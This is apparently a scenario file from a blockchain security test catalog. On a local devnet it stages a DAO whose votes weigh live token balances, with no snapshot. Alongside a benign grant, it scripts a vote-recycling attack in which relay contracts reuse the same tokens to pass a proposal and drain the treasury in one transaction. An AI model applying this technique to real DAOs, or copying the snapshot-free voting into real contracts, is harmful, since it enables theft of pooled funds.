"""TreasuryDao (solc 0.7.6): ether paid out by majority vote, votes weighing live balances.

TreasuryDao pays ether out once a proposal's votes exceed half the token supply, and a vote
weighs the voter's balance at the time of voting (no snapshot, no lock).

- `gen-dao-grant` (benign): alice and bob (60% of the supply) pass a 5 ETH grant to grace, who
  executes it.
- `gen-vote-recycling`: mallory holds 20% of the supply; her VoteRecycler proposes paying her the
  whole treasury, votes, hands the tokens to two BallotRelays in turn (each votes and passes them
  on), reaches 60% with the same tokens and executes, in one transaction.
"""

from __future__ import annotations

from timemachine.catalog.builder import ETHER
from timemachine.catalog.devnet import actor_address
from timemachine.catalog.models import ScenarioRecord
from timemachine.catalog.scenarios.base import declared
from timemachine.catalog.scenarios.contract import Contract
from timemachine.catalog.scenarios.generalization.kit import ATTACKER, bind, deploy_own
from timemachine.catalog.scenarios.world import World

GOV = 10**18
HOLDINGS = {"alice": 300, "bob": 300, ATTACKER: 200, "deployer": 200}
TREASURY = {"carol": 10, "dave": 12, "heidi": 8}
GRANT = 5 * ETHER


async def _dao(world: World, label: str) -> tuple[Contract, str]:
    """A funded TreasuryDao whose first proposal (a grant to grace) passed and is queued for
    execution (mined by the caller); its contract and the execute tx."""
    chain, a = world.chain, actor_address
    token = await deploy_own(
        chain, "deployer", "GenToken", "Governance", "GOV", name=f"{label} GOV"
    )
    await chain.mine()
    dao = await deploy_own(chain, "deployer", "TreasuryDao", token.address, name=label)
    for holder, amount in HOLDINGS.items():
        await token.send("deployer", "mint", a(holder), amount * GOV)
    await chain.mine()
    for donor, amount in TREASURY.items():
        await chain.send(donor, dao.address, value=amount * ETHER, what=f"{donor} funds the DAO")
    await dao.send("alice", "propose", a("grace"), GRANT)
    await chain.mine()
    for voter in ("alice", "bob"):
        await dao.send(voter, "vote", 0)
    await chain.mine()
    return dao, await dao.send("grace", "execute", 0)


async def stage_grant(world: World) -> ScenarioRecord:
    dao, tx = await _dao(world, "TreasuryDao (benign)")
    block = await world.chain.mine()
    held = sum(TREASURY.values()) * ETHER
    return await GRANT_SCENARIO.paid_out(
        world.chain,
        tx,
        block,
        contract=dao.address,
        held=held,
        left=held - GRANT,
        payee="grace",
        paid=GRANT,
        what="DAO grant",
    )


async def stage(world: World) -> ScenarioRecord:
    chain, a = world.chain, actor_address
    dao, _ = await _dao(world, "TreasuryDao")
    recycler = await deploy_own(chain, ATTACKER, "VoteRecycler")
    relays = [
        await deploy_own(chain, ATTACKER, "BallotRelay", name=f"BallotRelay {n}") for n in (1, 2)
    ]
    token = bind(chain, await dao.call("token"), "GenToken", "TreasuryDao GOV")
    await token.send(ATTACKER, "transfer", recycler.address, HOLDINGS[ATTACKER] * GOV)
    await chain.mine()

    relay_addresses = [relay.address for relay in relays]
    return await SCENARIO.drained(
        chain,
        lambda: recycler.send(ATTACKER, "attack", dao.address, relay_addresses, gas=800_000),
        attacker=a(ATTACKER),
        contracts=[recycler.address, *relay_addresses],
        victim=dao.address,
        held=sum(TREASURY.values()) * ETHER - GRANT,
        left=0,
        what="vote recycling",
    )


SCENARIO = declared("gen-vote-recycling", stage)
GRANT_SCENARIO = declared("gen-dao-grant", stage_grant)
